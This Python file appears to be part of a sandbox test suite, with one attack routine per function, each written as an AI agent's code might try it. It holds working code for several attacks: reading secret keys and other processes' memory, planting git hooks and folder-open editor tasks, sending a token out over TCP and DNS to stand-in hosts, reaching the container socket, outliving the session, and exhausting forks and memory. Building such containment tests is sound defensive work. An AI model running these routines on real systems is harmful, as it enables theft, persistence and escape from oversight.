# SPDX-License-Identifier: Apache-2.0
"""What runs inside each sandbox: one attack, as agent-written code would make it. effects.py says what each is to do.

    python3 attack.py NAME          in the work directory, where target.json says what there is to attack
"""

import ctypes
import json
import mmap
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = libc.ptrace.restype = ctypes.c_long
with open("target.json", encoding="utf-8") as file:
    TARGET = json.load(file)
TOKEN = TARGET["token"]
# While the host looks.
HOLD = 3
CALLS = {"io_uring_setup": 425, "memfd_create": 319, "process_vm_readv": 310, "add_key": 248}
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 5, 16, 17
USER_KEYRING = -4


def must(result, what):
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number), what)
    return result


def show(path):
    with open(path, "rb") as source:
        print(source.read().decode(errors="replace"))


def overwrite(path, text, how="w"):
    with open(path, how, encoding="utf-8") as target:
        target.write(text)


def ssh_key():
    show(TARGET["secret"])


def own_environment():
    print(os.environ.get("AGENT_API_KEY", ""))
    if "AGENT_API_KEY" not in os.environ:
        raise PermissionError("no such variable")


def other_environment():
    show(f"/proc/{TARGET['victim']}/environ")


def other_memory():
    size = 64
    buffer = ctypes.create_string_buffer(size)
    local = struct.pack("QQ", ctypes.addressof(buffer), size)
    remote = struct.pack("QQ", TARGET["address"], size)
    must(libc.syscall(CALLS["process_vm_readv"], TARGET["victim"], local, 1, remote, 1, 0), "process_vm_readv")
    print(buffer.raw.decode(errors="replace"))


def ptrace():
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    must(libc.ptrace(PTRACE_ATTACH, TARGET["victim"], None, None), "ptrace attach")
    os.waitpid(TARGET["victim"], 0x40000000)
    word = int.from_bytes(TOKEN[:8].encode(), "little")
    must(libc.ptrace(PTRACE_POKEDATA, TARGET["victim"], TARGET["word"], word), "ptrace poke")
    libc.ptrace(PTRACE_DETACH, TARGET["victim"], None, None)


def send_signal():
    os.kill(TARGET["bystander"], signal.SIGTERM)


def inherited():
    found = b""
    for number in range(3, 64):
        try:
            found += os.pread(number, 4096, 0)
        except OSError:
            continue
    print(found.decode(errors="replace"))
    if not found:
        raise OSError("no descriptor came along")


def hard_link():
    os.link(TARGET["secret"], "loot")
    show("loot")


def link_for_others():
    os.symlink(TARGET["secret"], "result.txt")


def write_outside():
    overwrite(TARGET["notes"], TOKEN)


def start_file():
    overwrite(TARGET["start_file"], f"\n# {TOKEN}\n", "a")


def git_hook():
    overwrite(".git/hooks/post-checkout", f"#!/bin/sh\n# {TOKEN}\n")
    os.chmod(".git/hooks/post-checkout", 0o755)


def editor_task():
    os.makedirs(".vscode", exist_ok=True)
    overwrite(".vscode/tasks.json", json.dumps({"version": "2.0.0", "tasks": [{"label": TOKEN, "runOptions": {"runOn": "folderOpen"}}]}))


def change_mode():
    os.chmod(TARGET["secret"], 0o644)


def shared_memory():
    overwrite(TARGET["shared"], TOKEN)


def dropped_program():
    shutil.copy("payload.bin", "tool")
    os.chmod("tool", 0o755)
    subprocess.run(["./tool", "ran"], check=True)


def memory_program():
    with open("payload.bin", "rb") as source:
        code = source.read()
    number = must(libc.syscall(CALLS["memfd_create"], b"tool", 0), "memfd_create")
    os.write(number, code)
    subprocess.run([f"/proc/self/fd/{number}", "ran", str(HOLD)], pass_fds=[number], check=True)


def set_user_program():
    subprocess.run([TARGET["set_user"], TARGET["by_root"] + TOKEN], check=True)


def tcp(address, port):
    with socket.create_connection((address, port), timeout=5) as stream:
        stream.sendall(f"GET /{TOKEN} HTTP/1.0\r\n\r\n".encode())
        stream.recv(100)


def loopback():
    tcp("127.0.0.1", 8099)


def metadata():
    tcp("169.254.169.254", 80)


def internet():
    tcp("203.0.113.7", 443)


def dns():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(TOKEN)]) + TOKEN.encode() + b"\x07example\x00\x00\x10\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.sendto(query, ("203.0.113.53", 53))


def unix(name):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as stream:
        stream.settimeout(5)
        stream.connect(name)
        stream.sendall(f"POST /containers/create {TOKEN}\r\n".encode())
        stream.recv(100)


def engine_socket():
    unix(TARGET["engine"])


def abstract_socket():
    unix("\0session-bus")


def outlive():
    if os.fork():
        time.sleep(1)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3):
        os.close(number)
    for count in range(400):
        try:
            overwrite("heartbeat", str(count))
        except OSError:
            pass
        time.sleep(0.1)
    os._exit(0)


def fork_bomb():
    children, failed = [], None
    for _ in range(TARGET["forks"]):
        try:
            child = os.fork()
        except OSError as error:
            failed = error
            break
        if child == 0:
            signal.alarm(30)
            signal.pause()
            os._exit(0)
        children.append(child)
    print(len(children))
    time.sleep(HOLD)
    for child in children:
        os.kill(child, signal.SIGKILL)
    if failed:
        raise failed


def memory_hog():
    size = TARGET["hog"] << 20
    with mmap.mmap(-1, size, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS) as area:
        try:
            area.madvise(mmap.MADV_HUGEPAGE)
        except OSError:
            pass
        area[::4096] = b"x" * (size // 4096)
        time.sleep(HOLD)


def io_uring():
    parameters = ctypes.create_string_buffer(120)
    must(libc.syscall(CALLS["io_uring_setup"], 8, parameters), "io_uring_setup")
    time.sleep(HOLD)


def user_namespace():
    user, group = os.getuid(), os.getgid()
    must(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
    overwrite("/proc/self/setgroups", "deny")
    overwrite("/proc/self/uid_map", f"0 {user} 1")
    overwrite("/proc/self/gid_map", f"0 {group} 1")
    must(libc.mount(TOKEN.encode(), b"/mnt", b"tmpfs", 0, None), "mount")
    time.sleep(HOLD)


def key_left():
    libc.syscall.argtypes = [ctypes.c_long, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_int]
    must(libc.syscall(CALLS["add_key"], b"user", TOKEN.encode(), b"left", 4, USER_KEYRING), "add_key")


try:
    globals()[sys.argv[1]]()
    print("attack: done", flush=True)
except subprocess.CalledProcessError as problem:
    print(f"attack: {problem.cmd[0]} ended with {problem.returncode}", flush=True)
    sys.exit(1)
except Exception as problem:  # pylint: disable=broad-except
    print(f"attack: {type(problem).__name__}: {problem}", flush=True)
    sys.exit(1)
